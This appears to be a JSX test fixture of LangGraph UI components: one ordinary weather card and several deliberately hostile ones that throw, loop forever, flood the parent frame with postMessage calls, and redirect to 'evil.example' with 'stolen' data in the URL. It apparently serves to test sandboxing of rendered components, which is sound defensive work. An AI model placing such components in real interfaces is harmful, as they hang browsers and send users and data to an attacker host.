/** Components of the graph `cards`: one as people write them, and some that are hostile. */

import { useStreamContext } from '@langchain/langgraph-sdk/react-ui'
import { useState } from 'react'

import './ui.css'

function Card({ city }) {
  const { messages, submit } = useStreamContext()
  const [stars, setStars] = useState(0)
  const humans = messages.filter(({ type }) => type === 'human').length
  return (
    <div className="card">
      <b>Weather in {city}</b>
      <span>{humans} human message</span>
      <button onClick={() => setStars(stars + 1)}>{stars} stars</button>
      <button onClick={() => submit({})}>More</button>
    </div>
  )
}

function Throws() {
  throw new Error('it throws')
}

function Loops() {
  for (;;) {
    // It never ends.
  }
}

function Sends() {
  setInterval(() => {
    for (let times = 0; times < 1_000; times++) parent.postMessage('noise', '*')
  }, 1)
  return <b>Noise</b>
}

function Leaves() {
  location.href = 'https://evil.example/?stolen=words'
  return <b>Gone</b>
}

export default { card: Card, throws: Throws, loops: Loops, sends: Sends, leaves: Leaves }
